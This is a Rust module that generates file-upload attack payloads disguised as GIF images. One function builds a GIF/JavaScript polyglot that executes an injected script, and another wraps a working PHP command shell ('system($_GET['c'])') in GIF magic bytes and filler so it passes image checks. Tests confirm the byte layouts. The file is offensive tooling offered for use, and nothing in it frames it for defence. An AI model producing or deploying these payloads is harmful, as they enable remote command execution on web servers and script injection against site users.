//! GIF89a-prefixed payload carriers.
//!
//! Neither artifact is meant to render. [`build_polyglot`] is a GIF header
//! that a JavaScript engine also accepts: the logical screen width bytes are
//! `/*`, so everything up to the injected `*/` is a block comment and the file
//! evaluates as `GIF89a=1; <payload>;`.

use alloc::vec::Vec;

/// GIF89a signature + version.
pub const MAGIC: &[u8; 6] = b"GIF89a";
/// Logical screen width field bytes. Little-endian 0x2A2F, ASCII `/*`.
pub const COMMENT_OPEN: [u8; 2] = *b"/*";
/// Logical screen height (400, little-endian).
const HEIGHT: [u8; 2] = [0x90, 0x01];
/// Global color table present, 8 bits color resolution, 256 entries.
const PACKED_FIELDS: u8 = 0xF7;
const COLOR_TABLE_ENTRIES: usize = 256;

/// Size of the header plus logical screen descriptor.
pub const SCREEN_DESCRIPTOR_LEN: usize = 13;

/// Default script when none is given.
pub const DEFAULT_SCRIPT: &str = "alert(1)";

/// Build a GIF/JavaScript polyglot that runs `script`.
pub fn build_polyglot(script: &str) -> Vec<u8> {
    let tail = alloc::format!("*/=1; {script};");
    let mut out =
        Vec::with_capacity(SCREEN_DESCRIPTOR_LEN + COLOR_TABLE_ENTRIES * 3 + tail.len());

    out.extend_from_slice(MAGIC);
    out.extend_from_slice(&COMMENT_OPEN); // width
    out.extend_from_slice(&HEIGHT);
    out.push(PACKED_FIELDS);
    out.push(0x00); // background color index
    out.push(0x00); // pixel aspect ratio

    // Black, white, then zeros. Neither 0x00 nor 0xFF can close the comment early.
    out.extend_from_slice(&[0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF]);
    out.resize(SCREEN_DESCRIPTOR_LEN + COLOR_TABLE_ENTRIES * 3, 0x00);

    out.extend_from_slice(tail.as_bytes());
    out
}

/// `GIF89a` magic, filler, a PHP command shell, filler.
pub fn php_shell_gif() -> Vec<u8> {
    const FILLER: [u8; 100] = [0xCC; 100];
    const SHELL: &[u8] = b"\n<?php system($_GET['c']); ?>\n";

    let mut out = Vec::with_capacity(MAGIC.len() + FILLER.len() * 2 + SHELL.len());
    out.extend_from_slice(MAGIC);
    out.extend_from_slice(&FILLER);
    out.extend_from_slice(SHELL);
    out.extend_from_slice(&FILLER);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn width_field_reads_as_comment_open() {
        let out = build_polyglot("x()");
        assert_eq!(&out[..8], b"GIF89a/*");
        assert_eq!(u16::from_le_bytes([out[6], out[7]]), 0x2A2F);
        assert_eq!(u16::from_le_bytes([out[8], out[9]]), 400);
        assert_eq!(out[10], 0xF7);
    }

    #[test]
    fn comment_closes_only_before_payload() {
        let out = build_polyglot("x()");
        let table_end = SCREEN_DESCRIPTOR_LEN + 768;
        assert_eq!(&out[table_end..], b"*/=1; x();");
        let first_close = out.windows(2).position(|w| w == b"*/").unwrap();
        assert_eq!(first_close, table_end);
    }

    #[test]
    fn php_shell_layout() {
        let out = php_shell_gif();
        assert_eq!(&out[..6], MAGIC);
        assert!(out[6..106].iter().all(|&b| b == 0xCC));
        assert_eq!(out.len(), 6 + 100 + 30 + 100);
    }
}
